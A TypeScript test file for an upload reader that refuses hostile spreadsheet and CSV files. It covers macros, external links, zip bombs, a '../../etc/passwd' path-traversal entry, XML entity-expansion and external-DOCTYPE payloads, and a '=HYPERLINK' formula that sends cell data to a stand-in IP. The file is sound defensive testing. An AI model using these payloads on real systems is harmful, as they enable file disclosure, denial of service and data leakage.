import { LANGUAGES } from '@concord/domain';
import { describe, expect, test } from '@jest/globals';
import { interchangeWords } from './language/words.ts';
import { type FileReading, readFiles } from './reading/read-files.ts';
import type { RefusalCode } from './refusal.ts';
import { makeArchive, type Part, rowXml, sheetXml, workbookParts } from './testing/archives.ts';
import { readSampleCycle } from './testing/outlines.ts';
import { writeWorkbook } from './workbook/write-workbook.ts';

const cycle = readSampleCycle();
const context = { cycle, country: 'KEN', language: 'en' } as const;
const base = { language: 'en', period: { from: 2010, to: 2017 } };
const header = rowXml(1, ['measure', 'origin', 'destination', 'year', 'value']);
const figure = rowXml(2, ['students', 'KEN', 'DEU', 2015, 7]);
const good = workbookParts(header + figure);

function read(name: string, bytes: Uint8Array | string): Promise<FileReading> {
  return readFiles([{ name, bytes: Buffer.from(bytes as string) }], base, context);
}

/** The good workbook with another part, or with one of its own changed. */
function workbookWith(...parts: Part[]): Uint8Array {
  const names = new Set(parts.map(({ name }) => name));
  return makeArchive([...good.filter(({ name }) => !names.has(name)), ...parts]);
}

function sheet(cells: string): Uint8Array {
  return workbookWith({ name: 'xl/worksheets/sheet1.xml', content: sheetXml(cells) });
}

const relationships = good.find(({ name }) => name === 'xl/_rels/workbook.xml.rels')?.content as string;
const types = good.find(({ name }) => name === '[Content_Types].xml')?.content as string;

const HOSTILE: Readonly<Record<string, readonly [string, Uint8Array | string, RefusalCode]>> = {
  'an empty file': ['a.xlsx', '', 'empty'],
  'a file of 11 MB': ['a.csv', 'x'.repeat(11_000_000), 'too-large'],
  'a picture': ['a.png', 'x', 'type'],
  'a file without an ending': ['outline', 'x', 'type'],
  'CSV called XLSX': ['a.xlsx', 'measure,origin\nstudents,KEN', 'not-xlsx'],
  'XLSX called CSV': ['a.csv', makeArchive(good), 'not-text'],
  'XLSX called JSON': ['a.json', makeArchive(good), 'not-text'],
  'a compound document, as encrypted workbooks are': [
    'a.xlsx',
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    'protected',
  ],
  'an old workbook': ['a.xls', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'protected'],
  'an encrypted part': [
    'a.xlsx',
    workbookWith({ name: 'xl/worksheets/sheet1.xml', content: sheetXml(''), flags: 1 }),
    'protected',
  ],
  'a macro file by its name': ['a.xlsm', makeArchive(good), 'macros'],
  'macros in a file called XLSX': [
    'a.xlsx',
    workbookWith({ name: 'xl/vbaProject.bin', content: 'Sub AutoOpen()' }),
    'macros',
  ],
  'a macro type without macros': [
    'a.xlsx',
    workbookWith({
      name: '[Content_Types].xml',
      content: types.replace('sheet.main+xml', 'sheet.macroEnabled.main+xml'),
    }),
    'macros',
  ],
  'a link to another workbook': [
    'a.xlsx',
    workbookWith({ name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink/>' }),
    'external',
  ],
  'a part that is elsewhere': [
    'a.xlsx',
    workbookWith({
      name: 'xl/_rels/workbook.xml.rels',
      content: relationships.replace(
        'Target="worksheets',
        'TargetMode="External" Target="http://192.0.2.1/worksheets',
      ),
    }),
    'external',
  ],
  'a connection to a database': [
    'a.xlsx',
    workbookWith({ name: 'xl/connections.xml', content: '<connections/>' }),
    'external',
  ],
  'an archive in the archive': [
    'a.xlsx',
    workbookWith({ name: 'xl/media/image1.png', content: makeArchive(good) }),
    'embedded',
  ],
  'an embedded object': [
    'a.xlsx',
    workbookWith({ name: 'xl/embeddings/oleObject1.bin', content: 'x' }),
    'embedded',
  ],
  '300 parts': [
    'a.xlsx',
    workbookWith(
      ...Array.from({ length: 300 }, (_, index) => ({ name: `xl/media/${index}.png`, content: 'x' })),
    ),
    'too-many-parts',
  ],
  'a bomb of 60 MB': [
    'a.xlsx',
    workbookWith({ name: 'xl/media/image1.png', content: 'x'.repeat(60_000_000) }),
    'inflated',
  ],
  'a bomb in many parts': [
    'a.xlsx',
    workbookWith(
      ...Array.from({ length: 60 }, (_, index) => ({
        name: `xl/media/${index}.png`,
        content: 'x'.repeat(1_000_000),
      })),
    ),
    'inflated',
  ],
  'a bomb that lies about its size': [
    'a.xlsx',
    workbookWith({ name: 'xl/media/image1.png', content: 'x'.repeat(60_000_000), declared: 10 }),
    'damaged',
  ],
  'parts that share bytes': [
    'a.xlsx',
    workbookWith(
      { name: 'xl/media/a.png', content: 'x'.repeat(100_000) },
      { name: 'xl/media/b.png', content: '', shares: 'xl/media/a.png' },
    ),
    'damaged',
  ],
  'a part that is there twice': [
    'a.xlsx',
    makeArchive([...good, { name: 'XL/workbook.xml', content: '<workbook/>' }]),
    'damaged',
  ],
  'a way out of the archive': ['a.xlsx', workbookWith({ name: '../../etc/passwd', content: 'x' }), 'damaged'],
  'an archive cut off': ['a.xlsx', makeArchive(good).subarray(0, 900), 'damaged'],
  'a sparse sheet': ['a.xlsx', sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), 'too-wide'],
  'a sparse sheet in another quotation': [
    'a.xlsx',
    sheet("<row r='9'><c r='xfd9'><v>1</v></c></row>"),
    'too-wide',
  ],
  entities: [
    'a.xlsx',
    workbookWith({
      name: 'xl/worksheets/sheet1.xml',
      content: `<!DOCTYPE x [<!ENTITY a "${'lol'.repeat(50)}">]>${sheetXml('&a;')}`,
    }),
    'entities',
  ],
  'entities after much else': [
    'a.xlsx',
    workbookWith({
      name: 'xl/styles.xml',
      content: `<styleSheet/>${' '.repeat(200_000)}<!DOCTYPE x SYSTEM "file:///etc/passwd">`,
    }),
    'entities',
  ],
  'XML in UTF-16': [
    'a.xlsx',
    workbookWith({
      name: 'xl/worksheets/sheet1.xml',
      content: Buffer.from(`\ufeff${sheetXml('')}`, 'utf16le'),
    }),
    'damaged',
  ],
  'XML in an old encoding': [
    'a.xlsx',
    workbookWith({ name: 'xl/styles.xml', content: '<?xml version="1.0" encoding="UTF-7"?><styleSheet/>' }),
    'damaged',
  ],
  'an archive of something else': ['a.xlsx', makeArchive([{ name: 'hello.txt', content: 'x' }]), 'not-xlsx'],
  'a workbook without tables': [
    'a.xlsx',
    makeArchive(workbookParts(rowXml(1, ['a', 'b']), 'Notes')),
    'no-table',
  ],
  'CSV in Latin-1': ['figures.csv', Buffer.from('measure,origin\nétudes,KEN', 'latin1'), 'encoding'],
  'CSV with an open quotation': ['figures.csv', 'measure,origin\n"students,KEN\n', 'not-csv'],
  'CSV of no known table': ['data.csv', 'a,b\n1,2\n', 'unknown-table'],
  'JSON that is none': ['a.json', '{"format":', 'json'],
};

test('the workbook that the others are made of is read', async () => {
  expect(await read('a.xlsx', makeArchive(good))).toMatchObject({
    document: { figures: [{ measure: 'students', value: 7 }] },
    tables: ['figures'],
  });
});

describe('a hostile file', () => {
  test.each(Object.entries(HOSTILE))('is refused with what to do: %s', async (_, [name, bytes, code]) => {
    const reading = await read(name, bytes);
    const start = interchangeWords('en').refusals[code].split('{')[0] ?? '';
    expect(reading).toEqual({ refused: expect.stringContaining(start) });
    expect((reading as { refused: string }).refused).not.toMatch(/\{\w+\}|yauzl|hucre|Error/u);
  });

  test('is refused in the reader’s language', async () => {
    for (const language of LANGUAGES) {
      const reading = await readFiles([{ name: 'a.xlsm', bytes: makeArchive(good) }], base, {
        ...context,
        language,
      });
      expect(reading).toEqual({ refused: interchangeWords(language).refusals.macros });
    }
  });
});

test('several files are taken together where they are CSV alone', async () => {
  const workbook = { name: 'a.xlsx', bytes: makeArchive(good) };
  const several = await readFiles([workbook, workbook], base, context);
  expect(several).toEqual({ refused: interchangeWords('en').refusals.several });
});

test('what looks like a formula stays a text in a workbook', async () => {
  const summary = '=HYPERLINK("http://192.0.2.1/?"&A1,"more")';
  const bytes = await writeWorkbook(
    { ...base, cycle: cycle.code, country: 'KEN', framework: { summary } },
    context,
  );
  const reading = await readFiles([{ name: 'a.xlsx', bytes }], base, context);
  expect(reading).toMatchObject({ document: { framework: { summary } } });
  const { unpack } = await import('./workbook/unpack.ts');
  const sheets = [...(await unpack(bytes))].filter(([name]) => name.includes('worksheets/'));
  expect(sheets.length).toBeGreaterThan(10);
  for (const [, xml] of sheets) expect(Buffer.from(xml).toString()).not.toMatch(/<f[ >]/u);
});

describe('CSV', () => {
  const rows = [
    ['measure', 'origin', 'destination', 'year', 'value', 'source'],
    ['students', 'KEN', 'DEU', '2015', '7', 'Office; "two"'],
  ];
  const quoted = (delimiter: string): string =>
    rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(delimiter)).join('\r\n');
  const expected = {
    document: { figures: [{ measure: 'students', year: 2015, value: 7, source: 'Office; "two"' }] },
  };

  test.each([
    ['commas', Buffer.from(quoted(','))],
    ['semicolons', Buffer.from(quoted(';'))],
    ['tabs', Buffer.from(quoted('\t'))],
    ['a byte order mark', Buffer.from(`\ufeff${quoted(',')}`)],
    ['UTF-16, as "Unicode text"', Buffer.from(`\ufeff${quoted('\t')}`, 'utf16le')],
    ['UTF-16, the other way round', Buffer.from(`\ufeff${quoted(',')}`, 'utf16le').swap16()],
  ])('is read with %s', async (_, bytes) => {
    expect(await read('data.csv', bytes)).toMatchObject(expected);
  });
});
